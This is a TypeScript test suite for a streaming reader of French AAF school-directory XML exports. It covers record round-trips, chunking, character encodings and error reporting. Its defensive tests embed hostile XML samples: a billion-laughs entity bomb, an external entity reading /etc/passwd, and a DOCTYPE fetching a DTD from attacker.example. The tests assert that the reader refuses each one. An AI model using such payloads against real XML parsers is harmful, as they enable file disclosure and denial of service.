/**
 * The reader: records written by the test's own writer read back equal, chunk
 * cut points never change what is read, hostile XML is refused, declared
 * encodings are honoured, a broken file stops alone.
 */
import * as Fs from "node:fs"
import * as Os from "node:os"
import * as Path from "node:path"
import { afterAll, assert, describe, it } from "@effect/vitest"
import * as Chunk from "effect/Chunk"
import * as Effect from "effect/Effect"
import * as Either from "effect/Either"
import * as fc from "effect/FastCheck"
import * as Stream from "effect/Stream"
import * as AafExport from "../src/AafExport.ts"
import type { AafFileError } from "../src/AafFileError.ts"
import * as AafReader from "../src/AafReader.ts"
import type { AafElement } from "../src/AafRecord.ts"
import * as Writer from "./aafWriter.ts"

const dir = Fs.mkdtempSync(Path.join(Os.tmpdir(), "cartable-feeds-"))
afterAll(() => Fs.rmSync(dir, { recursive: true, force: true }))

const write = (name: string, content: string | Uint8Array) => {
  const path = Path.join(dir, name)
  Fs.writeFileSync(path, content)
  return path
}

const collect = <E>(stream: Stream.Stream<AafElement, E>) =>
  Stream.runCollect(stream).pipe(Effect.map(Chunk.toReadonlyArray))

const readText = (text: string | Uint8Array, chunks?: ReadonlyArray<number>) => {
  const bytes = typeof text === "string" ? new TextEncoder().encode(text) : text
  const parts: Array<Uint8Array> = []
  let at = 0
  for (const cut of [...(chunks ?? [])].sort((a, b) => a - b)) {
    parts.push(bytes.subarray(at, Math.max(at, cut)))
    at = Math.max(at, cut)
  }
  parts.push(bytes.subarray(at))
  return collect(AafReader.fromBytes("test.xml", Stream.fromIterable(parts)))
}

const failure = (effect: Effect.Effect<unknown, AafFileError>) =>
  Effect.flip(effect).pipe(Effect.map((e) => ({ reason: e.reason, file: e.file, line: e.line })))

const pupil = (id: string, attributes: Writer.Request["attributes"]): Writer.Request => ({
  kind: "add",
  categoryAttribute: "categoriePersonne",
  category: "Eleve",
  id,
  attributes,
})

// Names as people have them, with what XML must escape.
const text = fc
  .stringMatching(/^[A-Za-zÀ-ÿĀ-žḀ-ỿ0-9 '&<>"-]{1,20}$/)
  .map((s) => s.trim())
  .filter((s) => s !== "")
const attributeName = fc.constantFrom("sn", "givenName", "ENTPersonAutresPrenoms", "mail", "ENTEleveEnseignements")
const multi = new Set(["ENTPersonAutresPrenoms", "ENTEleveEnseignements"])
const attributes = fc
  .uniqueArray(attributeName, { maxLength: 5 })
  .chain((names) =>
    fc.tuple(
      ...names.map((name) => fc.array(text, { maxLength: multi.has(name) ? 3 : 1 }).map((vs) => [name, vs] as const)),
    ),
  )
const membership = fc.record({
  structureId: fc.stringMatching(/^\d{3,7}$/),
  code: fc.stringMatching(/^[0-9A-Z-]{1,6}$/),
})
const request = fc.record({
  kind: fc.constantFrom("add" as const, "modify" as const),
  id: fc.stringMatching(/^[0-9A-Za-z]{1,12}$/),
  attributes,
  classes: fc.array(membership, { maxLength: 3 }),
})

describe("AafReader", () => {
  it.effect.prop(
    "a record written from random values reads back equal",
    [fc.array(request, { minLength: 1, maxLength: 8 })],
    ([requests]) =>
      Effect.gen(function* () {
        const written = requests.map(
          (r): Writer.Request => ({
            ...pupil(r.id, [...r.attributes, ["ENTEleveClasses", r.classes.map((c) => `${c.structureId}$${c.code}`)]]),
            kind: r.kind,
          }),
        )
        const elements = yield* readText(Writer.document(written))
        assert.strictEqual(elements.length, requests.length)
        let line = 4
        elements.forEach((element, i) => {
          const r = requests[i]!
          assert.strictEqual(element._tag, "Pupil")
          if (element._tag !== "Pupil") return
          assert.strictEqual(element.request, r.kind)
          assert.strictEqual(element.id, r.id)
          assert.deepStrictEqual(element.source, { file: "test.xml", line })
          assert.deepStrictEqual(
            [...element.attributes],
            [...r.attributes, ["ENTEleveClasses", r.classes.map((c) => `${c.structureId}$${c.code}`)]],
          )
          assert.deepStrictEqual(element.classes, r.classes)
          line += 6 + r.attributes.length + 1
        })
      }),
  )

  const sample = Writer.document([
    pupil("1", [
      ["sn", ["Çelik"]],
      ["givenName", ["Ayşe"]],
      ["ENTEleveClasses", ["1001$6A"]],
      ["ENTPersonDateNaissance", ["29/02/2012"]],
    ]),
    pupil("2", [
      ["sn", ["Nguyễn"]],
      ["givenName", ["Thị 🌸 Mai"]],
      ["ENTPersonDateNaissance", ["31/04/2012"]],
    ]),
    { kind: "delete", categoryAttribute: "categoriePersonne", category: "PersRelEleve", id: "5001", attributes: [] },
  ])
  const sampleBytes = new TextEncoder().encode(sample)

  it.effect.prop(
    "the cut points of chunks never change what is read",
    [fc.array(fc.integer({ min: 0, max: sampleBytes.byteLength }), { maxLength: 30 })],
    ([cuts]) =>
      Effect.gen(function* () {
        const whole = yield* readText(sampleBytes)
        assert.strictEqual(whole.length, 3)
        assert.deepStrictEqual(yield* readText(sampleBytes, cuts), whole)
      }),
  )

  it.effect("one byte at a time reads the same as the whole file", () =>
    Effect.gen(function* () {
      const every = Array.from({ length: sampleBytes.byteLength }, (_, i) => i)
      assert.deepStrictEqual(yield* readText(sampleBytes, every), yield* readText(sampleBytes))
    }),
  )

  it.effect.prop(
    "a malformed compound value or date is a bad record, never a defect",
    [
      fc.constantFrom("ENTEleveClasses", "ENTElevePersRelEleve", "ENTEleveDateEntreeClasses", "ENTPersonDateNaissance"),
      fc.string({ maxLength: 30 }).filter((s) => s.trim() !== ""),
    ],
    ([name, value]) =>
      Effect.gen(function* () {
        const clean = value.replace(/[^\p{L}\p{N}$/ .-]/gu, "x").trim() || "x"
        const [element] = yield* readText(Writer.document([pupil("7", [[name, [clean]]])]))
        assert.isDefined(element)
        if (element!._tag === "BadRecord") {
          assert.include(["MalformedValue", "MalformedDate"], element!.reason)
          assert.strictEqual(element!.id, "7")
          assert.strictEqual(element!.source.line, 4)
        } else assert.strictEqual(element!._tag, "Pupil")
      }),
  )

  it.effect("the format's own DOCTYPE is read past, never fetched", () =>
    Effect.gen(function* () {
      const elements = yield* readText(sample)
      assert.deepStrictEqual(
        elements.map((e) => e._tag),
        ["Pupil", "BadRecord", "Relative"],
      )
    }),
  )

  it.effect("a billion laughs is refused at its DOCTYPE, nothing expanded", () =>
    Effect.gen(function* () {
      const lol = [
        '<?xml version="1.0"?>',
        "<!DOCTYPE ficAlimMENESR [",
        '<!ENTITY lol "lol">',
        ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`),
        "]>",
        '<ficAlimMENESR><addRequest><operationalAttributes><attr name="categoriePersonne"><value>Eleve</value></attr></operationalAttributes>',
        '<identifier><id>1</id></identifier><attributes><attr name="sn"><value>&lol9;</value></attr></attributes></addRequest></ficAlimMENESR>',
      ].join("\n")
      const path = write("lol.xml", lol)
      assert.deepStrictEqual(yield* failure(collect(AafReader.readFile(path))), {
        reason: "DoctypeRefused",
        file: "lol.xml",
        line: 13, // where the DOCTYPE ends
      })
    }),
  )

  it.effect("an external entity is refused, and so is a DOCTYPE naming another DTD", () =>
    Effect.gen(function* () {
      const xxe = `<?xml version="1.0"?>\n<!DOCTYPE ficAlimMENESR [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<ficAlimMENESR><addRequest><operationalAttributes><attr name="categoriePersonne"><value>Eleve</value></attr></operationalAttributes><identifier><id>1</id></identifier><attributes><attr name="sn"><value>&xxe;</value></attr></attributes></addRequest></ficAlimMENESR>`
      assert.deepStrictEqual(yield* failure(readText(xxe)), { reason: "DoctypeRefused", file: "test.xml", line: 2 })
      const remote = `<?xml version="1.0"?>\n<!DOCTYPE ficAlimMENESR SYSTEM "http://attacker.example/evil.dtd">\n<ficAlimMENESR/>`
      assert.strictEqual((yield* failure(readText(remote))).reason, "DoctypeRefused")
      const publicId = `<!DOCTYPE ficAlimMENESR PUBLIC "-//x//y" "ficAlimMENESR.dtd">\n<ficAlimMENESR/>`
      assert.strictEqual((yield* failure(readText(publicId))).reason, "DoctypeRefused")
      // Without a DOCTYPE an entity reference is undefined: not well-formed.
      const bare = `<ficAlimMENESR>\n<addRequest><identifier><id>&xxe;</id></identifier></addRequest></ficAlimMENESR>`
      assert.deepStrictEqual(yield* failure(readText(bare)), { reason: "NotWellFormed", file: "test.xml", line: 2 })
    }),
  )

  it.effect("an ISO-8859-1 file with accents is read right", () =>
    Effect.gen(function* () {
      const doc = Writer.document(
        [
          pupil("1", [
            ["sn", ["Lefèvre"]],
            ["givenName", ["Maëlle-Françoise"]],
            ["ENTPersonVille", ["SAINT-ÉTIENNE"]],
          ]),
        ],
        "ISO-8859-1",
      )
      const bytes = Buffer.from(doc, "latin1")
      assert.isTrue(bytes.includes(0xe8)) // è as one byte
      const path = write("latin1.xml", bytes)
      const [record] = yield* collect(AafReader.readFile(path, { chunkBytes: 7 }))
      assert.strictEqual(record?._tag, "Pupil")
      assert.deepStrictEqual(record?._tag === "Pupil" && [...record.attributes.values()], [
        ["Lefèvre"],
        ["Maëlle-Françoise"],
        ["SAINT-ÉTIENNE"],
      ])
    }),
  )

  it.effect("windows-1252 and ISO-8859-15 characters outside Latin-1 (€, œ, Œ)", () =>
    Effect.gen(function* () {
      const head = (encoding: string) =>
        `<?xml version="1.0" encoding="${encoding}"?>\n<ficAlimMENESR><addRequest><operationalAttributes><attr name="categoriePersonne"><value>Eleve</value></attr></operationalAttributes><identifier><id>1</id></identifier><attributes><attr name="sn"><value>`
      const tail = "</value></attr></attributes></addRequest></ficAlimMENESR>"
      const cp1252 = Buffer.concat([
        Buffer.from(head("windows-1252"), "latin1"),
        Buffer.from([0x80, 0x20, 0x9c, 0x75, 0x66]),
        Buffer.from(tail),
      ])
      const iso15 = Buffer.concat([
        Buffer.from(head("ISO-8859-15"), "latin1"),
        Buffer.from([0xa4, 0x20, 0xbc]),
        Buffer.from(tail),
      ])
      const sn = (elements: ReadonlyArray<AafElement>) =>
        elements[0]?._tag === "Pupil" ? elements[0].attributes.get("sn") : undefined
      assert.deepStrictEqual(sn(yield* readText(cp1252)), ["€ œuf"])
      assert.deepStrictEqual(sn(yield* readText(iso15)), ["€ Œ"])
    }),
  )

  it.effect("bytes that are not the declared UTF-8, and an unknown encoding, stop the file", () =>
    Effect.gen(function* () {
      const latin1AsUtf8 = Buffer.from(Writer.document([pupil("1", [["sn", ["Lefèvre"]]])]), "latin1")
      assert.strictEqual((yield* failure(readText(latin1AsUtf8))).reason, "BadEncoding")
      const unknown = `<?xml version="1.0" encoding="x-klingon"?>\n<ficAlimMENESR/>`
      assert.deepStrictEqual(yield* failure(readText(unknown)), {
        reason: "UnsupportedEncoding",
        file: "test.xml",
        line: 1,
      })
    }),
  )

  it.effect(
    "XML that is not well-formed stops its file at the line; the records before stand; the other files go on",
    () =>
      Effect.gen(function* () {
        const broken = `${Writer.header()}${Writer.request(pupil("1", [["sn", ["A"]]]))}<addRequest>\n<identifier><id>2</id></identifier>\n</addRequest oops>\n`
        const brokenPath = write("X_Complet_20250901_Eleve_0000.xml", broken)
        const goodPath = write("X_Complet_20250901_Eleve_0001.xml", Writer.document([pupil("3", [["sn", ["C"]]])]))
        const single = yield* Effect.either(collect(AafReader.readFile(brokenPath)))
        assert.isTrue(Either.isLeft(single))
        if (Either.isLeft(single)) {
          assert.deepStrictEqual(
            [single.left.reason, single.left.file, single.left.line],
            ["NotWellFormed", "X_Complet_20250901_Eleve_0000.xml", 13],
          )
          assert.match(single.left.message, /^X_Complet_20250901_Eleve_0000\.xml:13: /)
        }
        const both = yield* collect(AafReader.readFiles([brokenPath, goodPath]))
        assert.deepStrictEqual(
          both.map((e) =>
            e._tag === "BadRecord" ? `${e.source.file}:${e.source.line} ${e.reason}` : `${e._tag} ${e.id}`,
          ),
          ["Pupil 1", "X_Complet_20250901_Eleve_0000.xml:13 NotWellFormed", "Pupil 3"],
        )
        const summary = yield* AafReader.summarise(AafReader.readFiles([brokenPath, goodPath]))
        assert.deepStrictEqual([summary.read, summary.good, summary.bad], [3, 2, 1])
      }),
  )

  it.effect("a file that is not an AAF document, or empty, stops", () =>
    Effect.gen(function* () {
      assert.strictEqual((yield* failure(readText("<html><body/></html>"))).reason, "NotWellFormed")
      assert.strictEqual((yield* failure(readText(""))).reason, "NotWellFormed")
      assert.strictEqual(
        (yield* failure(readText(`${Writer.header()}${Writer.request(pupil("1", []))}`))).reason,
        "NotWellFormed",
      )
      assert.strictEqual(
        (yield* failure(collect(AafReader.readFile(Path.join(dir, "absent.xml"))))).reason,
        "Unreadable",
      )
    }),
  )

  it.effect("a request inside the format's shape but with a stray element or text is a bad record", () =>
    Effect.gen(function* () {
      const doc = `${Writer.header()}<addRequest>\n<operationalAttributes><attr name="categoriePersonne"><value>Eleve</value></attr></operationalAttributes>\n<identifier><id>1</id></identifier>\n<attributes><attr name="sn"><value>A</value></attr></attributes>\n<extra/>\n</addRequest>\n<modifyRequest>\n<operationalAttributes><attr name="categoriePersonne"><value>Eleve</value></attr></operationalAttributes>\n<identifier><id>2</id></identifier>\n<modifications><modification name="sn" operation="add"><value>B</value></modification></modifications>\n</modifyRequest>\nstray text\n${Writer.footer}`
      const elements = yield* readText(doc)
      assert.deepStrictEqual(
        elements.map((e) => (e._tag === "BadRecord" ? [e.reason, e.id, e.source.line] : e._tag)),
        [
          ["UnexpectedContent", "1", 4],
          ["UnexpectedContent", "2", 10],
          ["UnexpectedContent", undefined, 16],
        ],
      )
    }),
  )

  it("an export folder's parts: by category, then part number numerically; other names left out", () => {
    const names = [
      "A_Complet_20250901_Eleve_0010.xml",
      "A_Complet_20250901_Eleve_0002.xml",
      "A_Complet_20250901_PersRelEleve_0000.xml",
      "A_Complet_20250901_EtabEducNat_0000.xml",
      "A_Delta_20250901_Eleve_0000.xml",
      "A_Delta_20250830_Eleve_0000.xml",
      "README.md",
      "A_Complet_20250901_PersAL_0000.xml",
      "A_Complet_20250901_Eleve_0001.xml",
    ]
    assert.deepStrictEqual(
      AafExport.order(names).map((f) => f.name),
      [
        "A_Delta_20250830_Eleve_0000.xml",
        "A_Complet_20250901_EtabEducNat_0000.xml",
        "A_Complet_20250901_Eleve_0001.xml",
        "A_Complet_20250901_Eleve_0002.xml",
        "A_Complet_20250901_Eleve_0010.xml",
        "A_Complet_20250901_PersRelEleve_0000.xml",
        "A_Delta_20250901_Eleve_0000.xml",
      ],
    )
  })
})
